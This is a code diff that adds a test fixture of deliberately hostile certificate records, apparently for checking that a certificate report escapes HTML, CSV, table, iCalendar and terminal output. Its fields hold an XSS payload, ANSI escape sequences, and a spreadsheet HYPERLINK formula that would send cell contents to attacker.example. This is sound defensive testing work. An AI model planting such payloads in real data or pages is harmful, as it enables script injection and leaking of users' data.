@@ -259,3 +259,40 @@ export function generateEstate(opts: EstateOptions = {}): Estate {
   report.summary = summarise(report.certificates, report.problems);
   return { report, truth };
 }
+
+/**
+ * Certificates whose text is hostile to every output format: markup, table
+ * pipes, CSV quotes and formulas, iCalendar separators, long non-ASCII names,
+ * terminal escapes. Names and subjects come from whoever made the certificate.
+ */
+export function hostileCertificates(now: Date = NOW): ReportCertificate[] {
+  const ca = CAS.find((c) => c.id === 'example')!;
+  const base = { issuer: ca, serial: '0BADC0DE', notBefore: new Date(now.getTime() - 30 * DAY), notAfter: new Date(now.getTime() + 20 * DAY), now };
+  return [
+    makeCert({
+      ...base,
+      fingerprint: fingerprintOf('hostile-script'),
+      subjectCN: '<script>document.title="pwned"</script><img src=x onerror=alert(1)>',
+      subject: 'CN=<script>document.title="pwned"</script><img src=x onerror=alert(1)>,O=Evil "Quotes" & Co',
+      sans: ['evil.example.com'],
+      locations: [{ type: 'file', path: 'certs/a|b,"c".pem', line: 7 }],
+      owner: '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
+    }),
+    makeCert({
+      ...base,
+      fingerprint: fingerprintOf('hostile-text'),
+      subjectCN: 'pipe|name; semi, comma \\ back\nnewline',
+      sans: ['pipe.example.com'],
+      locations: [{ type: 'endpoint', host: 'pipe.example.com', port: 8443, address: '192.0.2.77', servername: 'pipe.example.com', protocol: 'tls', chainIndex: 0 }],
+      owner: '+team|ops',
+    }),
+    makeCert({
+      ...base,
+      fingerprint: fingerprintOf('hostile-unicode'),
+      subjectCN: 'zertifikat-für-größe-überprüfung-ünïcödé-ßßßß-€€€€-日本語のドメイン名.example.jp',
+      sans: ['xn--example.jp'],
+      locations: [{ type: 'file', path: 'certs/ü.pem', line: 1 }],
+      owner: '-sre \u001b[31mred\u001b[0m',
+    }),
+  ];
+}
